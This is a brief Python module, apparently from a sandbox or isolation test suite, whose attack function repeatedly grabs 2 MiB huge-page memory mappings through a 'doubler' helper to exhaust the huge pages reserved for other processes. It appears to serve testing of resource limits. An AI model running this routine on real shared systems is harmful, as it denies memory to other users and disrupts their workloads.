"""Takes the huge pages that the machine sets aside for others."""

import mmap

from lib.attack import doubler


def attack():
    return mmap.mmap(-1, 2**21, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000)


Doubler = doubler(attack)
